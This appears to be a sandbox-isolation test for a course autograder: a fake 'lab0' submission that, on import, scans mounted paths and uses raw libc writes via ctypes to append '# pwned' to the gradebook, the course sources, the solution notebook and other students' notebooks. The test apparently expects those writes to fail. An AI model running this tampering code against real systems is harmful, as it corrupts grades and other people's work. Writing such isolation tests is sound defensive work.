# expected: 0 -- libc open/write through ctypes on the gradebook, the solutions, dlcourse's sources and other students' work
import ctypes
import glob
import os

import dlcourse

_libc = ctypes.CDLL(None, use_errno=True)
_repo = os.path.dirname(os.path.dirname(dlcourse.__file__))
_targets = [_repo + "/dlcourse/tasks/lab0.py", _repo + "/dlcourse/check/report.py",
            _repo + "/solutions/lab0/lab0.ipynb"]
with open("/proc/self/mountinfo") as _f:
    for _mount in [line.split()[4] for line in _f]:
        _targets += glob.glob(_mount + "/gradebook.db") + glob.glob(_mount + "/*/*/toy/*.ipynb")
        _targets += glob.glob(_mount + "/*/toy/*.ipynb") + glob.glob(_mount + "/course/gradebook.db")
_written = 0
for _path in _targets:
    _fd = _libc.open(_path.encode(), os.O_WRONLY | os.O_APPEND)
    if _fd >= 0:
        _written += _libc.write(_fd, b"\n# pwned\n", 9) > 0
        _libc.close(_fd)


def square(x):
    return x * x if _written else 0.0
